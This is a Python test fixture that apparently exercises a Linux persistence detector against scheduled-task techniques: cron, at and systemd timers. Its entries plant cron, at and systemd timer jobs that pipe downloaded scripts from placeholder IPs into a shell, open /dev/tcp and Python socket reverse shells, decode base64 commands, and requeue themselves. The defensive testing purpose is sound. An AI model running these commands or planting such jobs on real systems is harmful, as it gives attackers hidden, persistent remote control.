"""Coming back by the clock: cron, anacron's directories, at, systemd timers (ATT&CK T1053)."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour


def at_job(command: str, uid: int = 0) -> str:
    """A job as at(1) writes it."""
    return (
        f"#!/bin/sh\n# atrun uid={uid} gid={uid}\n# mail root 0\numask 22\nHOME=/root; export HOME\n"
        f"cd /root || {{\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}}\n{command}\n"
    )


AT = "/var/spool/cron/atjobs/a0000{}01c9f3a{}"

BEHAVIOURS = (
    Behaviour(
        name="cron_drop_in_pipes_download_to_shell",
        techniques=("T1053.003", "T1105"),
        does="A file in cron.d fetches a script every five minutes and hands it to a shell.",
        marks=("203.0.113.5/x.sh",),
        raises=("cron_job_fetch_and_run",),
        files={"/etc/cron.d/sync": "*/5 * * * * root curl -fsSL http://203.0.113.5/x.sh | bash\n"},
    ),
    Behaviour(
        name="crontab_of_root_decodes_its_command",
        techniques=("T1053.003", "T1140"),
        does="Root's own crontab holds a command in base64.",
        marks=("ZWNobyBuaWdodGx5",),
        raises=("cron_job_fetch_and_run",),
        files={"/var/spool/cron/crontabs/root": "@hourly echo ZWNobyBuaWdodGx5Cg== | base64 -d | sh\n"},
        modes={"/var/spool/cron/crontabs/root": 0o600},
    ),
    Behaviour(
        name="crontab_opens_reverse_shell",
        techniques=("T1053.003", "T1059.004"),
        does="A user's crontab opens a shell to a distant machine each minute.",
        marks=("203.0.113.6/4443",),
        raises=("cron_job_fetch_and_run", "cron_job_opens_network_shell"),
        files={"/var/spool/cron/crontabs/games": "* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.6/4443 0>&1'\n"},
        modes={"/var/spool/cron/crontabs/games": 0o600},
    ),
    Behaviour(
        name="cron_runs_program_in_shared_memory",
        techniques=("T1053.003",),
        does="The system's crontab starts a program that lies in /dev/shm.",
        marks=("/dev/shm/.pulse-cron",),
        raises=("cron_job_runs_from_temporary_directory", "cron_job_hidden_program"),
        shell="echo '@reboot root /dev/shm/.pulse-cron >/dev/null 2>&1' >> /etc/crontab",
    ),
    Behaviour(
        name="cron_runs_script_in_var_tmp_by_interpreter",
        techniques=("T1053.003", "T1059.006"),
        does="A job in cron.d lets Python run a script that lies in /var/tmp.",
        marks=("/var/tmp/rotate.py",),
        raises=("cron_job_runs_from_temporary_directory",),
        files={"/etc/cron.d/rotate": "17 * * * * root python3 /var/tmp/rotate.py\n"},
    ),
    Behaviour(
        name="cron_runs_hidden_program",
        techniques=("T1053.003", "T1564.001"),
        does="A job starts a program whose name begins with a dot in a directory of the system.",
        marks=("/usr/share/locale/.xx/update",),
        raises=("cron_job_hidden_program",),
        files={"/etc/cron.d/locale": "0 3 * * * root /usr/share/locale/.xx/update -q\n"},
    ),
    Behaviour(
        name="cron_file_left_open_for_everybody",
        techniques=("T1053.003", "T1222.002"),
        does="A file of cron.d is made writable for everybody, so that any account can come back as root.",
        marks=("/etc/cron.d/backup-all",),
        raises=("cron_job_file_writable_by_others", "file_world_writable_system_path"),
        files={"/etc/cron.d/backup-all": "30 2 * * * root /usr/bin/true\n"},
        modes={"/etc/cron.d/backup-all": 0o666},
    ),
    Behaviour(
        name="at_job_pipes_download_to_shell",
        techniques=("T1053.002", "T1105"),
        does="A job of at fetches code and runs it.",
        marks=("203.0.113.9/at",),
        raises=("at_job_fetches_and_runs_code",),
        files={AT.format(1, 0): at_job("wget -qO- http://203.0.113.9/at | sh")},
        modes={AT.format(1, 0): 0o700},
    ),
    Behaviour(
        name="at_job_opens_reverse_shell",
        techniques=("T1053.002", "T1059.004"),
        does="A job of at opens a shell over Bash's network device.",
        marks=("203.0.113.10/8443",),
        raises=("at_job_opens_network_shell",),
        files={AT.format(2, 1): at_job("bash -c 'exec 5<>/dev/tcp/203.0.113.10/8443; cat <&5 | sh >&5'")},
        modes={AT.format(2, 1): 0o700},
    ),
    Behaviour(
        name="at_job_queues_itself_again",
        techniques=("T1053.002",),
        does="A job of at puts itself back into the queue, so that it never ends and no crontab shows it.",
        marks=("/usr/local/lib/renew",),
        raises=("at_job_reschedules_itself",),
        files={AT.format(3, 2): at_job("/usr/local/lib/renew\necho /usr/local/lib/renew | at now + 5 minutes")},
        modes={AT.format(3, 2): 0o700},
    ),
    Behaviour(
        name="at_job_starts_program_in_tmp",
        techniques=("T1053.002",),
        does="A job of at starts a program from /tmp.",
        marks=("/tmp/nightly-at",),
        raises=("at_job_runs_from_temporary_directory",),
        files={AT.format(4, 3): at_job("/tmp/nightly-at --quiet")},
        modes={AT.format(4, 3): 0o700},
    ),
    Behaviour(
        name="at_spool_file_that_at_never_wrote",
        techniques=("T1053.002",),
        does="A script is laid into the spool of at by hand.",
        marks=("/var/spool/cron/atjobs/update.sh",),
        raises=("at_job_not_written_by_at",),
        files={"/var/spool/cron/atjobs/update.sh": "#!/bin/sh\n/usr/bin/true\n"},
        modes={"/var/spool/cron/atjobs/update.sh": 0o700},
    ),
    Behaviour(
        name="at_job_runs_as_root_and_belongs_to_another",
        techniques=("T1053.002",),
        does="A job that runs as root lies in a file of an unprivileged account, who can rewrite it.",
        marks=(AT.format(5, 4),),
        raises=("at_job_file_of_other_owner",),
        files={AT.format(5, 4): at_job("/usr/bin/true")},
        modes={AT.format(5, 4): 0o700},
        shell=f"chown games {AT.format(5, 4)}",
    ),
    Behaviour(
        name="systemd_timer_starts_download",
        techniques=("T1053.006", "T1105"),
        does="A timer starts a service that fetches a script and runs it.",
        marks=("203.0.113.11/t.sh",),
        raises=("systemd_unit_fetch_and_run",),
        files={
            "/etc/systemd/system/logrotated.timer": "[Timer]\nOnBootSec=60\nOnUnitActiveSec=600\n"
            "[Install]\nWantedBy=timers.target\n",
            "/etc/systemd/system/logrotated.service": "[Service]\nType=oneshot\n"
            "ExecStart=/bin/sh -c 'curl -s http://203.0.113.11/t.sh | sh'\n",
        },
    ),
    Behaviour(
        name="cron_fetches_code_by_python",
        techniques=("T1053.003", "T1105", "T1059.006"),
        does="A job lets Python fetch code and run it.",
        marks=("203.0.113.12/",),
        raises=("cron_job_fetch_and_run",),
        files={
            "/etc/cron.d/stats": '*/9 * * * * root python3 -c "import urllib.request as u;'
            "exec(u.urlopen('http://203.0.113.12/').read())\"\n"
        },
    ),
    Behaviour(
        name="cron_fetches_script_and_runs_it_next",
        techniques=("T1053.003", "T1105"),
        does="A job keeps a download as a file and runs it in the next step.",
        marks=("203.0.113.13/a",),
        raises=("cron_job_fetch_and_run",),
        files={"/etc/cron.d/lists": "9 * * * * root curl -s 203.0.113.13/a -o /usr/lib/a.sh && sh /usr/lib/a.sh\n"},
    ),
    Behaviour(
        name="cron_reads_in_hidden_script",
        techniques=("T1053.003", "T1564.001"),
        does="A job reads a script in that lies in a hidden directory of /etc.",
        marks=("/etc/.conf/env",),
        raises=("cron_job_hidden_program",),
        files={"/etc/cron.d/env": "9 * * * * root . /etc/.conf/env\n"},
    ),
    Behaviour(
        name="daily_script_opens_shell",
        techniques=("T1053.003", "T1059.004"),
        does="A script that runs each day opens a shell.",
        marks=("/etc/cron.daily/zz-man",),
        raises=("cron_job_script_fetches_or_decodes_code",),
        files={"/etc/cron.daily/zz-man": "#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.14/1 0>&1'\n"},
        modes={"/etc/cron.daily/zz-man": 0o755},
    ),
    Behaviour(
        name="cron_calls_plain_script_that_fetches_code",
        techniques=("T1053.003", "T1105"),
        does="A job calls a script in /usr/local/lib whose name says nothing; the script fetches code and runs it.",
        marks=("/usr/local/lib/metrics/collect.sh",),
        raises=("cron_job_command_script_fetches_or_decodes_code",),
        files={
            "/etc/cron.d/metrics": "23 * * * * root cd /usr/local/lib/metrics && ./collect.sh >/dev/null 2>&1\n"
            "24 * * * * root test -x /usr/local/lib/metrics/collect.sh\n",
            "/usr/local/lib/metrics/collect.sh": "#!/bin/sh\nset -e\nwget -qO- http://203.0.113.15/c | sh -s --\n",
        },
        modes={"/usr/local/lib/metrics/collect.sh": 0o755},
    ),
    Behaviour(
        name="cron_job_of_user_runs_python_script_with_shell",
        techniques=("T1053.003", "T1059.004"),
        does="A user's job lets Python run a script that opens a shell.",
        marks=("/usr/games/lib/scores.py",),
        raises=("cron_job_script_opens_network_shell",),
        files={
            "/var/spool/cron/crontabs/news": "@hourly /usr/bin/env python3 -u /usr/games/lib/scores.py\n",
            "/usr/games/lib/scores.py": "import os, pty, socket\ns = socket.socket()\n"
            "s.connect(('203.0.113.16', 443))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
        },
        modes={"/var/spool/cron/crontabs/news": 0o600},
    ),
    Behaviour(
        name="cron_runs_script_that_anybody_may_exchange",
        techniques=("T1053.003",),
        does="Root's job runs a script in a directory where every account may put another in its place.",
        marks=("/srv/shared/rotate-all.sh",),
        raises=("cron_job_script_writable_by_others",),
        shell="mkdir -p /srv/shared && chmod 777 /srv/shared && chmod 755 /srv/shared/rotate-all.sh",
        files={
            "/etc/cron.d/rotate-all": "5 1 * * * root nice -n 19 /srv/shared/rotate-all.sh\n",
            "/srv/shared/rotate-all.sh": "#!/bin/sh\nexit 0\n",
        },
    ),
)
